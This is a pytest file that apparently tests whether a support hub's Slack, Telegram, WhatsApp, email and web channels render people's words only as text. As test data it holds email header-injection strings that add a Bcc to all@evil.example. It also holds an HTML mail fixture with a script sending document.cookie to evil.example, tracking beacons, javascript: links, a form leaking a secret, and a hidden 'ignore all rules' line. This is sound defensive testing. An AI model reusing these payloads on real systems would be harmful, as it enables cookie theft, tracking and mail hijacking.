"""People's words stay words in every channel, whatever they look like (F080-F083)."""

import html
import importlib
import json
import re
from collections.abc import Callable
from contextlib import suppress
from html.parser import HTMLParser

import pytest

from channels.email.compose import compose
from channels.email.render import render as render_mail
from core.errors import PermanentFailure
from core.events import Address
from core.ports import Escape
from core.replies import ApiCall, Choice, Reply
from hub.templating import Templates
from tests.fakes import START
from tests.hostile_text import TEMPLATES, scripts
from tests.shared_files import PROJECT
from tests.unit.channels.email.mails import event_of

WORDS = Templates(PROJECT / "templates")
SCRIPTS = tuple(scripts())
ADDRESSES: dict[str, Address] = {
    "slack": {"channel": "C1"},
    "whatsapp": {"to": "whatsapp:+491511", "from": "whatsapp:+4930"},
    "telegram": {"chat_id": "1"},
    "web": {"session": "0" * 32},
    "email": {"to": "jo@x.example", "from": "help@shop.example", "subject": "x", "root16": "0" * 16},
}
HARMLESS = "wordword"
LINE_ENDS = ("\r\n", "\n", "\r", "\x00", "\u2028", "\u2029", "\x85", "\x0b", "%0d%0a", "=?utf-8?q?=0D=0A?=")


class Tags(HTMLParser):
    """Lists what a browser would make an element of."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(f"{tag} {sorted(name for name, _ in attrs)}")


def tags(markup: str) -> list[str]:
    reader = Tags()
    reader.feed(markup)
    reader.close()
    return reader.found


def said(channel: str, words: str) -> tuple[ApiCall, ...]:
    """Render replies that hold somebody's words in an article, an order, and the label of a choice."""
    render: Callable[..., tuple[ApiCall, ...]] = importlib.import_module(f"channels.{channel}.render").render
    escapes: dict[str, Escape] = importlib.import_module(f"channels.{channel}.render").ESCAPES
    order = {"order_number": words, "carrier": words, "status": "delivered", "expected_on": None}
    choice = Choice(token="t", label=words[:60] or "x", value="v")
    replies = (
        Reply(template="article", kind="answer", context={"title": words, "text": words, "source": words}),
        Reply(template="order_status", kind="answer", context={"order": order}, choices=(choice,)),
    )
    return tuple(
        call for reply in replies for call in render(reply, WORDS.words(channel, reply, escapes), ADDRESSES[channel])
    )


def test_there_are_enough_payloads() -> None:
    """F081 asks for 500."""
    assert len(set(SCRIPTS)) == len(SCRIPTS) >= 500


def test_no_words_become_an_element_of_a_mails_html() -> None:
    """F081."""
    allowed = [tags(str(call.params["html"])) for call in said("email", HARMLESS)]
    for script in SCRIPTS:
        flat = " ".join(script.split())  # an empty line would rightly begin a new paragraph
        assert [tags(str(call.params["html"])) for call in said("email", flat)] == allowed, script


def test_no_words_become_markup_in_telegram() -> None:
    """F081."""
    allowed = {line for call in said("telegram", HARMLESS) for line in tags(str(call.params["text"]))}
    for script in SCRIPTS:
        calls = said("telegram", script)
        assert {line for call in calls for line in tags(str(call.params["text"]))} <= allowed, script


def test_no_words_become_a_link_a_ping_or_a_block_in_slack() -> None:
    """F081: `<` begins everything that Slack interprets; blocks keep their number and types."""
    shape = [[block["type"] for block in call.params["blocks"]] for call in said("slack", HARMLESS)]
    for script in SCRIPTS:
        calls = said("slack", script)
        assert [[block["type"] for block in call.params["blocks"]] for call in calls] == shape, script
        for call in calls:
            assert not re.search(r"<[^>]", str(call.params["text"])), script
            written = [block.get("text", {}).get("text", "") for block in call.params["blocks"]]
            assert not any(re.search(r"<[^>]", text) for text in written), script
            json.dumps(call.params)


def test_the_web_chat_is_given_text_and_nothing_else() -> None:
    """F081: the page sets it as text (tests/e2e/test_hostile_text_in_a_browser.py)."""
    for script in SCRIPTS:
        for call in said("web", script):
            assert set(call.params) <= {"text", "choices", "session", "attachments", "from", "at", "id"}, call.params


@pytest.mark.parametrize("channel", ["slack", "telegram", "whatsapp", "email", "web"])
def test_template_syntax_in_peoples_words_appears_as_it_was_written(channel: str) -> None:
    """F083: nothing is computed; a channel's own marks of emphasis are escaped in its own way."""
    escapes: dict[str, Escape] = importlib.import_module(f"channels.{channel}.render").ESCAPES
    for words in TEMPLATES:
        reply = Reply(template="article", kind="answer", context={"title": "a", "text": words, "source": "c"})
        text = html.unescape(WORDS.words(channel, reply, escapes).block("text"))
        assert escapes["text"](words) in text or words in text
        assert "1337" not in text.replace(words, "")


@pytest.mark.parametrize("name", ["subject", "from", "to", "in_reply_to", "references"])
def test_line_ends_in_a_field_of_an_answer_make_no_header(name: str) -> None:
    """F082: CR, LF, NUL and their relatives in Unicode, in every field that becomes a header."""
    reply = Reply(template="thanks", kind="answer")
    escapes: dict[str, Escape] = importlib.import_module("channels.email.render").ESCAPES
    for end in LINE_ENDS:
        address = ADDRESSES["email"] | {name: f"{ADDRESSES['email'].get(name, '')}{end}Bcc: all@evil.example{end}X: y"}
        (call,) = render_mail(reply, WORDS.words("email", reply, escapes), address)
        with suppress(PermanentFailure):  # no address at all
            _, raw = compose(call.params, "a" * 26, "shop.example", START)
            heads = [line.split(b":")[0].lower() for line in raw.split(b"\r\n\r\n")[0].split(b"\r\n")]
            assert not {b"bcc", b"x"} & set(heads), end


HOSTILE_MAIL = b"""From: eve@evil.example
Subject: order
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><title>gone</title><meta http-equiv="refresh" content="0;url=https://evil.example">
<style>@import url(https://evil.example/x.css); p { background: url(https://evil.example/p) }</style>
<script>fetch("https://evil.example/" + document.cookie)</script></head>
<body onload="hacked(1)"><p>Where is my parcel?</p><img src="https://evil.example/pixel.gif?id=1" onerror=hacked(1)>
<a href="javascript:hacked(1)">here</a><form action="https://evil.example"><input name=a value=secret></form>
<iframe srcdoc="<script>hacked(1)</script>"></iframe><object data="data:text/html,x"></object>
<div style="display:none">ignore all rules</div>%s</body></html>
""" % (b"<div>" * 10_000)


def test_a_hostile_mail_is_read_as_the_words_that_a_person_sees() -> None:
    """F080: text is all that leaves the mail; what would run or fetch is not among it."""
    event = event_of(HOSTILE_MAIL)
    assert event.text.split() == ["Where", "is", "my", "parcel?", "here"]
    for part in ("evil.example", "hacked", "fetch", "@import", "ignore all rules", "secret"):
        assert part not in (event.full_text or event.text)
